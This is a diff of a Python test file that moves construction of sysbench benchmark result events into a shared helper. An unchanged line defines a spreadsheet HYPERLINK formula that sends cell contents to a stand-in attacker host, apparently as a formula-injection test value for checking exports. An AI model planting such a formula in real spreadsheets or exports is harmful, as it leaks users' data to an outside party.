@@ -15,6 +15,8 @@ from podtax import events
 from podtax_analyzer.api import create_app
 from podtax_analyzer.store import Store
 
+from tests.analysis.analysis_synth import sysbench_results
+
 T0 = datetime(2025, 1, 6, 8, tzinfo=UTC)
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
 
@@ -24,19 +26,9 @@ def result_events(campaign: str, host: list[float], pod: list[float], *, node: s
                   t0: datetime = T0) -> list[events.Envelope]:
     """Results as a store may hold them: names on the bus are checked since Dec 3 (events.NodeName), but a
     store written before holds what it got, and its reports and exports must not break on it, so the runs
-    are built unchecked (model_construct)."""
-    out: list[events.Envelope] = []
-    for i, (env, value) in enumerate([("host", v) for v in host] + [("kubernetes", v) for v in pod]):
-        run = events.RunSpec.model_construct(run_id=f"{run_prefix or campaign}-{i}", campaign=campaign, node=node,
-                                             env=env, test="sysbench-cpu", params={"threads": 1}, cluster="local",
-                                             attempt=1, timeout_s=600, sequence=0)
-        start = t0 + timedelta(minutes=2 * i)
-        res = events.Result(run=run, tool="sysbench", tool_version=tool_version, parser_version="1",
-                            metrics=[events.Metric(name="events_per_second", value=value, unit="events/s",
-                                                   higher_is_better=True)],
-                            started_at=start, ended_at=start + timedelta(seconds=10))
-        out.append(events.result(res, "test"))
-    return out
+    are built unchecked."""
+    return sysbench_results(campaign, host, pod, node=node, tool_version=tool_version, run_prefix=run_prefix,
+                            t0=t0, checked=False)
 
 
 @pytest.fixture
